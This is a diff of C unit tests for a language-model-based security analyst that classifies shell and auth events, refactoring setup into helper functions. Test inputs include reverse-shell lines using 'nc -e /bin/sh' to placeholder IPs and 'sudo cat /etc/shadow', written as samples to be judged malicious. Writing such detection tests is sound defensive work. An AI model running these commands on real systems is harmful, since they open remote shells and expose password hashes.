@@ -22,13 +22,18 @@ static json_t *cmd_event(const char *cmd, long n) {
     return ev;
 }
 
+/* An analyst with options o; the test fails when it cannot be made. */
+static analyst *open_analyst(const analyst_opts *o) {
+    int err = 0;
+    analyst *a = analyst_new(o, &err);
+    if (!a) fail_msg("analyst_new: %s (%s)", nj_last_error(), nj_strerror(err));
+    return a;
+}
+
 static analyst *new_analyst(bool no_rules, bool label_only, bool full) {
     analyst_opts o = {.data_dir = ".", .model_name = "test", .no_rules = no_rules,
                       .label_only = label_only, .full = full};
-    int err = 0;
-    analyst *a = analyst_new(&o, &err);
-    if (!a) fail_msg("analyst_new: %s (%s)", nj_last_error(), nj_strerror(err));
-    return a;
+    return open_analyst(&o);
 }
 
 /* A value can neither start a line of its own nor close the event fence. */
@@ -354,6 +359,18 @@ static void test_rule_floor_and_injection(void **st) {
 }
 
 /* Writes DIR/prompt.json (the given text) and DIR/system.txt. */
+static void write_prompt(const char *dir, const char *json);
+
+/* prompt.json `json` written to o's prompt folder is refused, the error
+ * naming `why`. */
+static void refused(const analyst_opts *o, const char *json, const char *why) {
+    write_prompt(o->prompt_dir, json);
+    int err = 0;
+    assert_null(analyst_new(o, &err));
+    assert_true(err < 0);
+    if (!strstr(nj_last_error(), why)) fail_msg("error '%s' lacks '%s'", nj_last_error(), why);
+}
+
 static void write_prompt(const char *dir, const char *json) {
     char path[512];
     snprintf(path, sizeof path, "%s/prompt.json", dir);
@@ -396,9 +413,7 @@ static void test_combiner_per_model(void **st) {
     for (size_t i = 0; i < NJ_ARRAY_LEN(cases); i++) {
         analyst_opts o = {.data_dir = ".", .prompt_dir = dir, .model_name = cases[i].model, .no_rules = true,
                           .label_only = true, .no_cache = true, .explain = true};
-        int err = 0;
-        analyst *a = analyst_new(&o, &err);
-        if (!a) fail_msg("analyst_new: %s", nj_last_error());
+        analyst *a = open_analyst(&o);
         json_t *ev = cmd_event("ls -la /srv/www", (long)i + 1);
         json_t *v = NULL;
         assert_int_equal(analyst_judge(a, x.m, x.s, ev, &v), 0);
@@ -418,14 +433,8 @@ static void test_combiner_per_model(void **st) {
         {"{\"version\": \"t\", \"system\": \"system.txt\", \"combiners\": [{\"model\": \"smollm2\", "
          "\"features\": [\"lp_benign\"], \"weights\": {}, \"bias\": {}}]}", "combiner needs"},
     };
-    for (size_t i = 0; i < NJ_ARRAY_LEN(bad); i++) {
-        write_prompt(dir, bad[i].json);
-        analyst_opts o = {.data_dir = ".", .prompt_dir = dir, .model_name = "SmolLM2-135M-Instruct.Q4_1.gguf"};
-        int err = 0;
-        assert_null(analyst_new(&o, &err));
-        assert_true(err < 0);
-        if (!strstr(nj_last_error(), bad[i].why)) fail_msg("error '%s' lacks '%s'", nj_last_error(), bad[i].why);
-    }
+    analyst_opts o = {.data_dir = ".", .prompt_dir = dir, .model_name = "SmolLM2-135M-Instruct.Q4_1.gguf"};
+    for (size_t i = 0; i < NJ_ARRAY_LEN(bad); i++) refused(&o, bad[i].json, bad[i].why);
     smol_close(&x);
 }
 
@@ -444,9 +453,7 @@ static void test_label_scoring_modes(void **st) {
     analyst_opts o = {.data_dir = ".", .prompt_dir = dir, .model_name = "SmolLM2-135M-Instruct.Q4_1.gguf",
                       .no_rules = true, .label_only = true, .no_cache = true, .explain = true,
                       .compare_scoring = true};
-    int err = 0;
-    analyst *a = analyst_new(&o, &err);
-    if (!a) fail_msg("analyst_new: %s", nj_last_error());
+    analyst *a = open_analyst(&o);
     static const char *const cmds[] = {"ls -la /srv/www", "nc -e /bin/sh 203.0.113.4 9001", "sudo cat /etc/shadow"};
     for (size_t i = 0; i < NJ_ARRAY_LEN(cmds); i++) {
         json_t *ev = cmd_event(cmds[i], (long)i + 1);
@@ -464,9 +471,7 @@ static void test_label_scoring_modes(void **st) {
         json_decref(ev);
     }
     analyst_free(a);
-    write_prompt(dir, "{\"version\": \"t\", \"system\": \"system.txt\", \"label_scoring\": \"sum\"}");
-    assert_null(analyst_new(&o, &err));
-    if (!strstr(nj_last_error(), "label_scoring")) fail_msg("error '%s' lacks label_scoring", nj_last_error());
+    refused(&o, "{\"version\": \"t\", \"system\": \"system.txt\", \"label_scoring\": \"sum\"}", "label_scoring");
     smol_close(&x);
 }
 
@@ -495,9 +500,7 @@ static void test_techniques_from_retrieval(void **st) {
     fclose(f);
     analyst_opts o = {.data_dir = ".", .prompt_dir = dir, .kb_path = kb, .model_name = "SmolLM2-135M-Instruct.Q4_1.gguf",
                       .no_rules = true, .full = true, .no_cache = true};
-    int err = 0;
-    analyst *a = analyst_new(&o, &err);
-    if (!a) fail_msg("analyst_new: %s", nj_last_error());
+    analyst *a = open_analyst(&o);
     json_t *ev = cmd_event("nc -e /bin/sh 198.51.100.7 9001", 1), *v = NULL;
     assert_int_equal(analyst_judge(a, x.m, x.s, ev, &v), 0);
     assert_string_equal(json_string_value(json_object_get(v, "verdict")), "malicious");
@@ -517,6 +520,7 @@ static void test_techniques_from_retrieval(void **st) {
      * base by its words only, so the vote may count but no id is taken */
     static const char auth[] = "{\"v\":1,\"id\":\"a1\",\"kind\":\"auth\",\"time\":\"2026-12-08T01:02:03Z\",\"auth\":{\"service\":\"sshd\","
                                "\"result\":\"failure\",\"method\":\"password\",\"user\":\"root\"}}";
+    int err = 0;
     ev = event_parse(auth, sizeof auth - 1, &err);
     assert_non_null(ev);
     assert_int_equal(analyst_judge(a, x.m, x.s, ev, &v), 0);
@@ -531,9 +535,7 @@ static void test_techniques_from_retrieval(void **st) {
     json_decref(v);
     json_decref(ev);
     analyst_free(a);
-    write_prompt(dir, "{\"version\": \"t\", \"system\": \"system.txt\", \"techniques\": \"both\"}");
-    assert_null(analyst_new(&o, &err));
-    if (!strstr(nj_last_error(), "techniques")) fail_msg("error '%s' lacks techniques", nj_last_error());
+    refused(&o, "{\"version\": \"t\", \"system\": \"system.txt\", \"techniques\": \"both\"}", "techniques");
     smol_close(&x);
 }
 
